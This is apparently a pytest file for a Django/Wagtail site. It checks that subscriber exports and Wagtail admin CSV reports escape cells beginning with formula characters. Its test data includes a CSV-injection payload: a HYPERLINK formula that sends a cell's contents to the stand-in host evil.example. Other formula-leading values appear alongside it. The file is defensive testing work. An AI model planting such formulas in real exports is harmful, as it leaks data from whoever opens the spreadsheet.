"""CSV injection outside juridesk: every CSV the project writes neutralises a cell that
begins with =, +, -, @, a tab or a carriage return (a leading '), so a spreadsheet shows
it instead of running it (OWASP "CSV injection", issue 12 finding 8).

The CSVs: `nieuwsbrief_export` (subscribers) and Wagtail's own admin exports (site history,
locked pages, aging pages). `kennisbank_export` and `rechtspraak_export` write JSON lines,
not CSV; juridesk's exports are tested in tests/juridesk."""

import csv
import io

import pytest
from django.core.management import call_command
from wagtail.models import Page

from kennisbank.models import ThemaPagina
from nieuwsbrief.models import Abonnee

pytestmark = pytest.mark.django_db

FORMULE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
GEVAARLIJK = [FORMULE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def _cellen(tekst, delimiter):
    return [cel for rij in csv.reader(io.StringIO(tekst), delimiter=delimiter) for cel in rij]


def _geen_formule(cellen):
    for cel in cellen:
        assert not cel.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cel)


def test_the_subscriber_export_neutralises_and_reads_back(tmp_path):
    adressen = ["-jan@example.be", "+piet@example.be", "=a@example.be", "gewoon@example.be"]
    for email in adressen:
        Abonnee.objects.create(email=email, nieuwsbrief=True, status="ingeschreven")
    uit = io.StringIO()
    call_command("nieuwsbrief_export", "--alle", stdout=uit)
    cellen = _cellen(uit.getvalue(), ";")
    _geen_formule(cellen)
    assert "'-jan@example.be" in cellen and "gewoon@example.be" in cellen

    # the import reads the export back as it was
    pad = tmp_path / "abonnees.csv"
    pad.write_text(uit.getvalue(), encoding="utf-8")
    Abonnee.objects.all().delete()
    call_command("nieuwsbrief_import", str(pad), stdout=io.StringIO())
    assert set(Abonnee.objects.values_list("email", flat=True)) == set(adressen)


@pytest.mark.parametrize("titel", GEVAARLIJK)
def test_wagtails_admin_reports_neutralise_page_titles(client, home, maak_gebruiker, titel):
    beheerder = maak_gebruiker("beheerder", superuser=True)
    pagina = home.add_child(instance=ThemaPagina(title=titel, slug="formule"))
    pagina.save_revision(user=beheerder, log_action=True).publish(user=beheerder)
    Page.objects.filter(pk=pagina.pk).update(locked=True, locked_by=beheerder)
    client.force_login(beheerder)
    for rapport in ("site-history", "locked", "aging-pages"):
        antwoord = client.get(f"/admin/reports/{rapport}/", {"export": "csv"})
        assert antwoord.status_code == 200, rapport
        tekst = b"".join(antwoord.streaming_content).decode("utf-8")
        cellen = _cellen(tekst, ",")
        _geen_formule(cellen)
        assert "'" + titel in cellen, (rapport, cellen)
